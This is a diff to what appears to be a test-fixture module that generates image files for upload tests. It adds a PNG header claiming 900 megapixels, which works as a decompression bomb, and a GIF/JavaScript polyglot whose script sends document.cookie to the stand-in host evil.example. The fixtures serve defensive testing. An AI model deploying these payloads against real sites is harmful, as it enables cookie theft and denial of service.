@@ -1,4 +1,5 @@
 import sharp, { type Sharp } from 'sharp';
+import zlib from 'node:zlib';
 
 /** Real image bytes made in code, for the upload tests. */
 
@@ -98,4 +99,44 @@ export async function pngWithAlpha(width: number, height: number): Promise<Buffe
     <rect x="55%" y="20%" width="35%" height="60%" fill="#1d3557"/>
   </svg>`;
   return sharp(Buffer.from(svg)).png().toBuffer();
+}
+
+function pngChunk(type: string, data: Buffer): Buffer {
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(data.length);
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(zlib.crc32(body));
+  return Buffer.concat([length, body, crc]);
+}
+
+/** A file of a few dozen bytes whose header declares width × height pixels (30000 × 30000: 900 megapixels). */
+export function declaredGiantPng(width = 30_000, height = 30_000): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, 0], 8); // 8-bit truecolour, deflate, no filter, no interlace
+  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+  return Buffer.concat([signature, pngChunk('IHDR', header), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(64))), pngChunk('IEND', Buffer.alloc(0))]);
+}
+
+/** Starts as a GIF, runs as JavaScript: `GIF89a=…;` is a valid script and a GIF signature. */
+export const gifScriptPolyglot = () => Buffer.from('GIF89a=1;document.location="https://evil.example/?c="+document.cookie;//\x00\x00\x00;');
+
+/** A realistic 12-megapixel camera JPEG: gradients and noise, so it compresses like a photo. */
+export async function photo12mp(): Promise<Buffer> {
+  const [width, height] = [4000, 3000];
+  const noise = await sharp({ create: { width, height, channels: 3, noise: { type: 'gaussian', mean: 128, sigma: 20 } } })
+    .png()
+    .toBuffer();
+  const sky = Buffer.from(
+    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
+      <defs><linearGradient id="g" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#1d4e89"/><stop offset="1" stop-color="#f4a261"/></linearGradient></defs>
+      <rect width="100%" height="100%" fill="url(#g)"/>
+    </svg>`,
+  );
+  return sharp(sky)
+    .composite([{ input: noise, blend: 'soft-light' }])
+    .jpeg({ quality: 90 })
+    .toBuffer();
 }
